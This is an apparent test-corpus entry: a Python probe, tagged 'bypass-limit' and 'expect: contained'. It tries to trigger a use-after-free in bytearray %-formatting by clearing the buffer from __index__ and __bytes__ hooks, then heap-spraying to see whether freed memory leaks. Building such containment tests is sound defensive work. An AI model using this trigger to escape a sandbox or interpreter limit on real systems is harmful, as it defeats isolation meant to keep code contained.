# id: bytearray-mod-uaf
# class: bypass-limit
# expect: contained
# technique: the format of `bytearray % x` is freed by an argument
# source: own
# verified: no
ba = bytearray(b'%d-' + b'A' * 3000)
keep = []
class I:
    def __index__(self):
        ba.clear(); keep.append([bytes([66]) * 2990 for _ in range(5)]); return 1
    __int__ = __index__
try:
    r = ba % I(); print(type(r), len(r), bytes(r[:60]))
    if b'\xdb' in r or b'B' in r: print('ESCAPED:bytearray-mod-uaf freed memory shows')
except Exception as e: print(type(e).__name__, e)
ba2 = bytearray(b'%s-' + b'A' * 3000)
class B:
    def __bytes__(self): ba2.clear(); keep.append([bytes([66]) * 2990 for _ in range(5)]); return b'x'
try:
    r = ba2 % B(); print(len(r), bytes(r[:60]))
    if b'\xdb' in r or b'B' in r: print('ESCAPED:bytearray-mod-uaf freed memory shows')
except Exception as e: print(type(e).__name__, e)
